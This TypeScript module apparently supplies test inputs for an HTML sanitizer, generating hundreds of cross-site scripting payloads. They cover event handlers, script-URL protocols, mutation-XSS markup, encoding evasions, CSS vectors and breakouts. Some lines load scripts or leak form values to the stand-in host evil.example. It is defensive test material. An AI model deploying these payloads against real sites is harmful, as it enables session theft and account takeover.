/**
 * What people try to run a script with, several hundred ways of it. They are put together here from the techniques that
 * these public collections describe, so that each technique meets each place it may stand in:
 *
 * - events, link protocols, consuming tags, polyglots: PortSwigger, Cross-site scripting (XSS) cheat sheet,
 *   https://portswigger.net/web-security/cross-site-scripting/cheat-sheet
 * - encodings, broken tags, old protocols, meta, base, styles: OWASP, XSS Filter Evasion Cheat Sheet (after RSnake),
 *   https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 * - forms, media, SVG, templates, charsets: HTML5 Security Cheatsheet, https://html5sec.org (cure53/H5SC)
 * - markup that changes when it is parsed again: the test vectors of DOMPurify (cure53/DOMPurify, test/fixtures), and
 *   M. Heiderich and others, mXSS Attacks: Attacking well-secured Web-Applications by using innerHTML Mutations, 2013
 *
 * Each calls `top.hooked(1)`, or something that the test replaces by it (`alert`, `print`).
 */
const RUN = 'top.hooked(1)';

const EVENTS = [
  ...'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut'.split(
    ' ',
  ),
  ...'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough'.split(
    ' ',
  ),
  ...'change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend'.split(
    ' ',
  ),
  ...'dragenter dragleave dragover dragstart drop durationchange ended error focus focusin focusout formdata'.split(
    ' ',
  ),
  ...'fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata'.split(
    ' ',
  ),
  ...'loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout'.split(
    ' ',
  ),
  ...'mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter'.split(
    ' ',
  ),
  ...'pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeatevent reset'.split(
    ' ',
  ),
  ...'resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart'.split(
    ' ',
  ),
  ...'slotchange stalled submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel'.split(
    ' ',
  ),
  ...'transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend'.split(
    ' ',
  ),
  ...'webkitanimationiteration webkitanimationstart webkittransitionend wheel begin end repeat'.split(' '),
];

/** Elements in which an event may come by itself, and shapes of attributes that filters overlook. */
const SHAPES = [
  (event: string) => `<img src=x on${event}=${RUN}>`,
  (event: string) => `<details open tabindex=1 ON${event.toUpperCase()}="${RUN}"><summary>x</summary></details>`,
  (event: string) => `<video/src=x/controls/autoplay/on${event}='${RUN}'><source src=y></video>`,
];
const events = EVENTS.flatMap((event, index) => [
  SHAPES[index % 3]?.(event) ?? '',
  SHAPES[(index + 1) % 3]?.(event) ?? '',
]);

const SELF_FIRING = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<a tabindex=1 autofocus onfocus=${RUN}>x</a>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<video><source onerror=${RUN}></video>`,
  `<object data=x onerror=${RUN}></object>`,
  `<embed src=x onload=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<script src=x onerror=${RUN}></script>`,
  `<frameset onload=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<isindex autofocus onfocus=${RUN} type=image src=1>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${RUN} attributename=x></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<math><maction actiontype="statusline#http://x" href="//x" onclick=${RUN}>x</maction></math>`,
  `<x contenteditable onblur=${RUN}>x</x>`,
  `<x onclick=${RUN} style="position:fixed;inset:0">x</x>`,
  `<div popover id=p onbeforetoggle=${RUN}></div><button popovertarget=p>x</button>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
];

const CODE = `javascript:${RUN}`;
const entity = (text: string, of: (code: number) => string) => [...text].map((sign) => of(sign.charCodeAt(0))).join('');
const PROTOCOLS = [
  CODE,
  `JaVaScRiPt:${RUN}`,
  ` ${CODE}`,
  `\u0001${CODE}`,
  `\u00a0${CODE}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3A${RUN}`,
  `javascript\u0000:${RUN}`,
  `&#14;  ${CODE}`,
  entity(CODE, (code) => `&#${code};`),
  entity(CODE, (code) => `&#${String(code).padStart(7, '0')}`),
  entity(CODE, (code) => `&#x${code.toString(16)};`),
  `javascript://%0a${RUN}`,
  `javascript://comment%E2%80%A8${RUN}`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `view-source:${CODE}`,
  `feed:${CODE}`,
  `blob:${CODE}`,
  `filesystem:${CODE}`,
  `//evil.example/%0a${CODE}`,
];
const PLACES = [
  (to: string) => `<a href="${to}">x</a>`,
  (to: string) => `<a href='${to}' target=_blank>x</a>`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<form action="${to}"><button>x</button></form>`,
  (to: string) => `<button form=f formaction="${to}">x</button>`,
  (to: string) => `<object data="${to}"></object>`,
  (to: string) => `<embed src="${to}">`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<video src="${to}" poster="${to}"></video>`,
  (to: string) => `<svg><a xlink:href="${to}"><text y=20>x</text></a></svg>`,
  (to: string) => `<math><mi href="${to}">x</mi></math>`,
  (to: string) => `<map><area shape=default href="${to}"></map>`,
  (to: string) => `<base href="${to}/"><a href=x>x</a>`,
  (to: string) => `<link rel=stylesheet href="${to}">`,
  (to: string) => `<table background="${to}"><td>x</td></table>`,
];
// every protocol in five places, every place with ten protocols
const protocols = PROTOCOLS.flatMap((protocol, index) =>
  [0, 3, 6, 9, 12].map((step) => PLACES[(index + step) % PLACES.length]?.(protocol) ?? ''),
);

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script\u000c>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `<script type=module>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script a=">" src=//evil.example/x.js></script>`,
  `<script type="text/javascript" charset="utf-7">+AHQAbwBw-</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><script>&#116;op.hooked(1)</script></svg>`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
  `<noembed><script>${RUN}</script></noembed>`,
  `<xml><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></xml>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
  `<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>`,
  `<iframe src="https://evil.example\\@www.youtube.com/embed/x"></iframe>`,
  `<meta http-equiv=refresh content="0;url=${CODE}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta charset="x-user-defined"><meta http-equiv="Set-Cookie" content="a=b">`,
  `<!--#exec cmd="id"--><? ${RUN} ?><% ${RUN} %>`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<applet code=x archive=//evil.example/x.jar></applet>`,
  `<param name=url value=${CODE}><object classid=clsid:x></object>`,
  `<portal src=${CODE}></portal><fencedframe src=${CODE}></fencedframe>`,
];

const IMG = `<img src=x onerror=${RUN}>`;
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><math>${IMG}</style></math></mglyph></table></mtext></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><p><style><a id="</style>${IMG}">`,
  `<math><p></p><style><!--</style>${IMG}--></style></math>`,
  `<svg><desc><style>${IMG}</style></desc></svg>`,
  `<svg><title><style><!--</style>${IMG}`,
  `<svg><style>&lt;/style&gt;${IMG}</style></svg>`,
  `<svg><![CDATA[><image xlink:href="]]>${IMG}"></svg>`,
  `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding=text/html><svg></svg><style>&lt;/style>${IMG}`,
  `<noscript><p title="</noscript>${IMG}">`,
  `<noembed><p title="</noembed>${IMG}">`,
  `<noframes><p title="</noframes>${IMG}">`,
  `<textarea><p title="</textarea>${IMG}">`,
  `<title><p title="</title>${IMG}">`,
  `<xmp><p title="</xmp>${IMG}">`,
  `<iframe><p title="</iframe>${IMG}"></iframe>`,
  `<style><p title="</style>${IMG}">`,
  `<script><p title="</script>${IMG}">`,
  `<plaintext><p title="${IMG}">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<!--><p title="-->${IMG}">`,
  `<!---->${IMG}-->`,
  `<!--!>${IMG}-->`,
  `<!-- --!>${IMG}`,
  `<!-${IMG}>`,
  `<![CDATA[<p title="]]>${IMG}">`,
  `<?xml version="1.0"?${IMG}>`,
  `</p title="${IMG}">`,
  `<p title='"'>${IMG}</p>`,
  '<p title="`><img src=x onerror=top.hooked(1)>`">x</p>',
  `<img alt="\`\`onerror=${RUN}" src=x>`,
  `<a href="x" title="&quot;>${IMG.replaceAll('<', '&lt;')}">x</a>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<select><option><style></option></select>${IMG}</style>`,
  `<table><td><form><input name=x></td></form>${IMG}`,
  `<table><caption><svg><title><caption>${IMG}</title></svg>`,
  `<div><select><template shadowrootmode=closed>${IMG}`,
  `<form id=a><input name=attributes><input name=parentNode></form>${IMG}`,
  `<img name=getElementById><form name=createElement>${IMG}`,
  `<p id="__proto__" name="constructor">x</p>${IMG}`,
  `<dialog open><svg><foreignobject><p>${IMG}</dialog>`,
  `<custom-element is=x onload=${RUN}>${IMG}</custom-element>`,
  `<a${' '.repeat(300)}onclick=${RUN}>x</a>`,
  `${'<b>'.repeat(120)}${IMG}`,
  `<p/${'a='.repeat(50)}${IMG}`,
];

const BROKEN = [
  `<img src=x onerror\u0000=${RUN}>`,
  `<img src=x onerror\u000b=${RUN}>`,
  `<img src=x onerror\t\n=\n${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<img src='x'onerror='${RUN}'>`,
  `<img src=x:x onerror=${RUN}//`,
  `<img src=x onerror="${RUN}"`,
  `<IMG SRC=x ONERROR=&#116;op.hooked(1)>`,
  `<img src=x onerror=&#x74;op&#46;hooked&lpar;1&rpar;>`,
  `<img src=x onerror=top['hook'+'ed']\`1\`>`,
  `<img src=x onerror=eval(atob('${btoa(RUN)}'))>`,
  `<img src=x onerror=alert(1)><img src=x onerror=print()>`,
  `<\u0069mg src=x onerror=${RUN}>`,
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `\u2039script\u203a${RUN}`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `<\ud800img src=x onerror=${RUN}>`,
  `<img src=x\ud800 onerror=${RUN}>`,
  `<p \u202eonclick=${RUN}>x</p>`,
];

const STYLES = [
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>body{background:url("${CODE}")}</style>`,
  `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
  `<p style="background:url(${CODE})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="behavior:url(//evil.example/x.htc)">x</p>`,
  `<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>`,
  `<p style="color:red;position:fixed;inset:0;z-index:9999">x</p>`,
  `<p style="color:\\75rl(${CODE})">x</p>`,
  `<p style="color:red}</style>${IMG}">x</p>`,
  `<p style="color:#fff</style>${IMG}">x</p>`,
  `<p style="text-align:center&quot; onclick=&quot;${RUN}">x</p>`,
  `<p style="color:rgb(0,0,0);--x:url(${CODE})">x</p>`,
  `<p style="color:/**/red;background-image:\\000075rl('${CODE}')">x</p>`,
];

/** For texts that are no HTML: out of an attribute, a title, a script, a template. */
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  '`-top.hooked(1)-`',
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `[[\${${RUN}}]]`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `$t(hooked){{count}}`,
  `\u2028${RUN}\u2029`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `"'--></style></noscript></script>${IMG}`,
  CODE,
];

/** All payloads, each once. */
export const XSS_PAYLOADS = [
  ...new Set([...SCRIPTS, ...SELF_FIRING, ...MUTATIONS, ...BROKEN, ...STYLES, ...BREAKOUTS, ...protocols, ...events]),
];

/** Payloads as one text, each in an element of its own, so that what one leaves open does not add to the next one's depth. */
export function htmlOf(payloads: string[]): string {
  return payloads.map((payload) => `<div>${shallow(payload)}</div>`).join('\n');
}

/** Runs of one tag, which a text of that depth is refused for, cut short. */
function shallow(payload: string): string {
  return payload.replace(/(<[a-z]+>)\1{20,}/g, '$1');
}
